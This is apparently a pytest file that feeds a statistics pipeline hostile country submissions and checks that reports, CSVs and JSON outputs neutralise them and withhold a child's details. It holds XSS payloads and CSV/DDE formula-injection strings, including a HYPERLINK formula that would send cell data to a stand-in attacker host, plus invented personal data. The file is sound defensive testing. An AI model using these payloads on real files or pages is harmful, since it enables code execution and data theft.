"""End to end with files written by an attacker: markup and spreadsheet formulas in every text field a country
can fill (indicator, sex, age, offence, unit, status, value, comment, a column header, a sheet name), and a
narrative about a child in a comment. After a run, a release and the country profiles, every output is
checked: report.html and the profiles (escaped, with a content security policy, and in real headless Chromium no
injected script runs), findings.csv and every release CSV (formula-safe), findings.json (the text kept as
data), CHANGES.md, and nothing anywhere holds the narrative."""

import csv
import html.parser
import json
import os
import re
from pathlib import Path

import duckdb
import openpyxl
import pytest

from conftest import warm_copy
from pipelines.cli import main, run_pipeline
from pipelines.ingest.archive import submit
from pipelines.settings import prepare_environment

CHROMIUM = "/usr/bin/chromium"
SCRIPT = "<script>window.pwned = 1</script>"
IMG = '<img src=x onerror="window.pwned = 2">'
SVG = "<svg onload=window.pwned=3>"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
CMD = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C notepad'!A0"
FORMULAS = (HYPERLINK, CMD, AT_SUM, PLUS)
NARRATIVE = "Victim Amina Wanjiru, born 04/03/2011, Kisumu; mother's phone 0712 345 678"
PLANTED = ("Amina", "Wanjiru", "04/03/2011", "0712 345 678", "Kwame", "Mensah", "2012-05-17")
# GHA: a case-level file, refused as personal data; only its quarantined original may hold these.
CASE_LEVEL = ("Name of child,Birthday,indicator,time_period,value\n"
              "Kwame Mensah,2012-05-17,CJ_VICTIMS_IDENTIFIED,2023,1\n")

ACCEPTED = [  # KEN: numbers fine, so the hostile comments are published and reach the release
    ("CJ_REPORTS_RECEIVED", 2023, 900, SCRIPT),
    ("CJ_CASES_OPENED", 2023, 500, IMG),
    ("CJ_PROSECUTIONS", 2023, 118, HYPERLINK),
    ("CJ_CONVICTIONS", 2023, 41, CMD),
    ("CJ_REPORTS_RECEIVED", 2022, 850, AT_SUM),
    ("CJ_CASES_OPENED", 2022, 480, PLUS),
    ("CJ_PROSECUTIONS", 2022, 110, NARRATIVE),
]
# UGA: markup or a formula in every other field: each becomes a finding that quotes it.
REJECTED_HEADER = ["indicator", "time_period", "sex", "age", "offence", "unit", "obs_status", "value", "comment",
                   '<img src=x onerror="window.pwned = 4">']
REJECTED = [
    [SCRIPT, "2023", "_T", "_T", "_T", "", "", "5", SVG, ""],
    ["CJ_PROSECUTIONS", "2023", IMG, "_T", "_T", "", "", "6", HYPERLINK, ""],
    ["CJ_PROSECUTIONS", "2022", "_T", SVG, "_T", "", "", "7", "", ""],
    ["CJ_PROSECUTIONS", "2021", "_T", "_T", HYPERLINK, "", "", "8", "", ""],
    ["CJ_CONVICTIONS", "2023", "_T", "_T", "_T", AT_SUM, "", "9", "", ""],
    ["CJ_CONVICTIONS", "2022", "_T", "_T", "_T", "", CMD, "3", "", ""],
    ["CJ_CONVICTIONS", "2021", "_T", "_T", "_T", "", "", "<script>window.pwned = 5</script>", "", ""],
    ["CJ_REPORTS_RECEIVED", "2023", "_T", "_T", "_T", "", "", PLUS, "", ""],
]
SHEET = "<svg onload=window.pwned=6>"


def _csv(path: Path, header, rows) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(header)
        w.writerows(rows)
    return path


@pytest.fixture(scope="module")
def hostile(reference_home, tmp_path_factory):
    old = os.environ.get("MNR_HOME")
    os.environ["MNR_HOME"] = str(warm_copy(reference_home, tmp_path_factory.mktemp("hostile_home")))
    try:
        home = prepare_environment()
        files = tmp_path_factory.mktemp("files")
        ken = _csv(files / "KEN_2022-2023.csv", ["indicator", "time_period", "value", "comment"], ACCEPTED)
        uga = _csv(files / "UGA_2021-2023.csv", REJECTED_HEADER, REJECTED)
        wb = openpyxl.Workbook()
        wb.active.title = SHEET
        for row in (["indicator", "time_period", "value"], ["CJ_PROSECUTIONS", 2023, -4]):
            wb.active.append(row)
        wb.save(files / "TZA_2023.xlsx")
        (files / "GHA_register.csv").write_text(CASE_LEVEL)
        receipts = {c: submit(home, f, c)[0] for c, f in (("KEN", ken), ("UGA", uga),
                                                          ("TZA", files / "TZA_2023.xlsx"),
                                                          ("GHA", files / "GHA_register.csv"))}
        rows = {r["country"]: r for r in run_pipeline()}
        assert main(["release", "--tag", "hostile"]) == 0
        yield home, receipts, rows
    finally:
        if old is None:
            os.environ.pop("MNR_HOME", None)
        else:
            os.environ["MNR_HOME"] = old


def _reports(home, receipts):
    return {c: home.feedback_dir(c, r.submission_id) for c, r in receipts.items()}


def _release(home) -> Path:
    (folder,) = [p for p in home.releases.iterdir() if p.is_dir() and p.name.startswith("hostile-")]
    return folder


def _pages(home, receipts) -> list[Path]:
    return [f / "report.html" for f in _reports(home, receipts).values()] + sorted((home.home / "profiles").glob("*.html"))


class Tags(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.handlers, self.policies = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.handlers += [a for a, _ in attrs if a.startswith("on")]
        if tag == "meta" and dict(attrs).get("http-equiv") == "Content-Security-Policy":
            self.policies.append(dict(attrs)["content"])


def test_the_verdicts(hostile):
    _, _, rows = hostile
    assert rows["KEN"]["state"] == "published" and rows["KEN"]["verdict"] != "rejected"
    assert rows["UGA"]["verdict"] == "rejected" and rows["TZA"]["verdict"] == "rejected"
    assert rows["GHA"]["verdict"] == "rejected"


def test_every_page_is_escaped_and_carries_a_policy_without_scripts(hostile):
    home, receipts, _ = hostile
    pages = _pages(home, receipts)
    assert len(pages) >= 4
    shown = 0
    for page in pages:
        text = page.read_text()
        p = Tags()
        p.feed(text)
        assert "script" not in p.tags and "img" not in p.tags and p.handlers == [], page
        assert p.tags.count("svg") == text.count("<svg "), page   # only the page's own charts
        (policy,) = p.policies
        assert "script-src 'none'" in policy and "default-src 'none'" in policy
        assert "unsafe-inline" not in policy
        shown += text.count("&lt;script&gt;window.pwned") + text.count("&lt;img src=x onerror")
    assert shown >= 3   # the hostile text is there, as text


def _run_in_chromium(pages: list[Path]) -> list[tuple[str, object, list[str]]]:
    from playwright.sync_api import sync_playwright

    out = []
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=[
            "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
            "--disable-sync", "--no-first-run"])
        try:
            for page_file in pages:
                page = browser.new_page()
                messages: list[str] = []
                page.on("console", lambda m, messages=messages: messages.append(m.text))
                page.on("dialog", lambda d, messages=messages: (messages.append("dialog " + d.message), d.dismiss()))
                page.goto(page_file.as_uri())
                page.wait_for_timeout(300)
                out.append((page_file.name, page.evaluate("window.pwned"), messages))
                page.close()
        finally:
            browser.close()
    return out


def test_no_injected_script_runs_in_headless_chromium(hostile, tmp_path):
    home, receipts, _ = hostile
    pages = _pages(home, receipts)
    # Each defence alone holds: the reports without their policy (escaping alone), and the raw payloads in a page
    # that has only the policy (the policy alone). The control, raw payloads without the policy, does run.
    unpoliced = []
    for i, page in enumerate(pages[:3]):
        copy = tmp_path / f"no-policy-{i}.html"
        copy.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page.read_text()))
        unpoliced.append(copy)
    policy = Tags()
    policy.feed(pages[0].read_text())
    raw = f"{SCRIPT}{IMG}{SVG}"
    policed_raw = tmp_path / "raw-with-policy.html"
    policed_raw.write_text(f'<!doctype html><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" '
                           f'content="{policy.policies[0]}"><body>{raw}</body>')
    control = tmp_path / "raw-control.html"
    control.write_text(f'<!doctype html><meta charset="utf-8"><body>{raw}</body>')
    results = {name: (pwned, msgs) for name, pwned, msgs in _run_in_chromium([*pages, *unpoliced, policed_raw, control])}
    assert results["raw-control.html"][0] in (1, 2, 3)         # the payloads do run in a page with no defence
    for name, (pwned, messages) in results.items():
        if name != "raw-control.html":
            assert pwned is None, (name, messages)
            assert not any(m.startswith("dialog") for m in messages)
    assert any("Content Security Policy" in m for m in results["raw-with-policy.html"][1])


def _formula_unsafe(path: Path) -> list[str]:
    bad = []
    with open(path, newline="", encoding="utf-8") as f:
        for row in csv.reader(f):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[-+]?\d+(\.\d+)?(e[-+]?\d+)?", cell):
                    bad.append(cell)
    return bad


def test_every_csv_written_is_formula_safe(hostile):
    home, receipts, _ = hostile
    csvs = [f / "findings.csv" for f in _reports(home, receipts).values()] + sorted(_release(home).rglob("*.csv"))
    assert any(p.name == "observations.sdmx.csv" for p in csvs)
    for path in csvs:
        assert _formula_unsafe(path) == [], path
    def cells(path):
        with open(path, newline="", encoding="utf-8") as f:
            return {c for row in csv.reader(f) for c in row}

    for name in ("observations.sdmx.csv", "observations.csv"):   # the footnotes are there, neutralised
        assert {"'" + f for f in FORMULAS} <= cells(_release(home) / name), name
    assert {"'" + HYPERLINK, "'" + AT_SUM, "'" + CMD} <= cells(_reports(home, receipts)["UGA"] / "findings.csv")


def test_machine_files_keep_the_text_as_data(hostile):
    home, receipts, _ = hostile
    doc = json.loads((_reports(home, receipts)["UGA"] / "findings.json").read_text())
    values = {f["value"] for f in doc["findings"]} | {f["column"] for f in doc["findings"]}
    assert {SCRIPT, IMG, SVG} <= values
    tza = json.loads((_reports(home, receipts)["TZA"] / "findings.json").read_text())
    assert SHEET in {f["sheet"] for f in tza["findings"]}
    with duckdb.connect(str(_release(home) / "release.duckdb"), read_only=True) as db:
        comments = {r[0] for r in db.execute("select comment from observations where ref_area = 'KEN'").fetchall()}
    assert {SCRIPT, IMG, *FORMULAS} <= comments
    changes = (_release(home) / "CHANGES.md").read_text()
    assert "<" not in changes and "=HYPERLINK" not in changes
    json.loads((_release(home) / "datapackage.json").read_text())


def test_a_refused_file_is_kept_in_quarantine_only(hostile):
    home, receipts, _ = hostile
    gha = receipts["GHA"]
    doc = json.loads((_reports(home, receipts)["GHA"] / "findings.json").read_text())
    assert [f["rule_id"] for f in doc["findings"]] == ["PERSONAL_DATA"]
    assert (home.quarantine / "GHA" / gha.submission_id / gha.file_name).read_text() == CASE_LEVEL
    assert not gha.path(home).exists()   # moved out of the landing archive; its receipt stays
    assert (gha.path(home).parent / "receipt.json").is_file()


def test_a_narrative_about_a_child_is_withheld_everywhere(hostile):
    home, receipts, _ = hostile
    doc = json.loads((_reports(home, receipts)["KEN"] / "findings.json").read_text())
    (withheld,) = [f for f in doc["findings"] if f["rule_id"] == "COMMENT_WITHHELD"]
    assert withheld["row"] == 8 and withheld["severity"] == "warning"
    report = (_reports(home, receipts)["KEN"] / "report.html").read_text()
    assert "COMMENT_WITHHELD" in report
    # Its value is published, without the comment.
    with duckdb.connect(str(_release(home) / "release.duckdb"), read_only=True) as db:
        assert db.execute("select obs_value, comment from observations where ref_area = 'KEN' and time_period = 2022 "
                          "and indicator_code = 'CJ_PROSECUTIONS'").fetchall() == [(110.0, None)]
    # Nothing under MNR_HOME holds it: the warehouse's tables, the release, reports, logs, the Dagster instance.
    for database in (home.warehouse, _release(home) / "release.duckdb", home.home / "published_layer.duckdb"):
        if database.exists():
            _no_planted_text(database)
    with duckdb.connect() as db:
        for parquet in home.home.rglob("*.parquet"):
            text = " ".join(str(r) for r in db.execute(f"select * from read_parquet('{parquet}')").fetchall())
            assert not any(p in text for p in PLANTED), parquet
    # (The KEN file itself stays in the landing archive, byte for byte; GHA's only in quarantine.)
    landing_copy = receipts["KEN"].path(home)
    quarantined = home.quarantine / "GHA"
    for f in home.home.rglob("*"):
        if f.is_file() and f != landing_copy and quarantined not in f.parents \
                and f.suffix not in (".duckdb", ".parquet", ".wal"):
            data = f.read_bytes()
            assert not any(p.encode() in data for p in PLANTED), f


def _no_planted_text(database: Path) -> None:
    with duckdb.connect(str(database), read_only=True) as con:
        for schema, table in con.execute("select table_schema, table_name from information_schema.tables").fetchall():
            for planted in PLANTED:
                n = con.execute(f'select count(*) from "{schema}"."{table}" t where contains(cast(t as varchar), ?)',
                                [planted]).fetchone()[0]
                assert n == 0, (schema, table, planted)
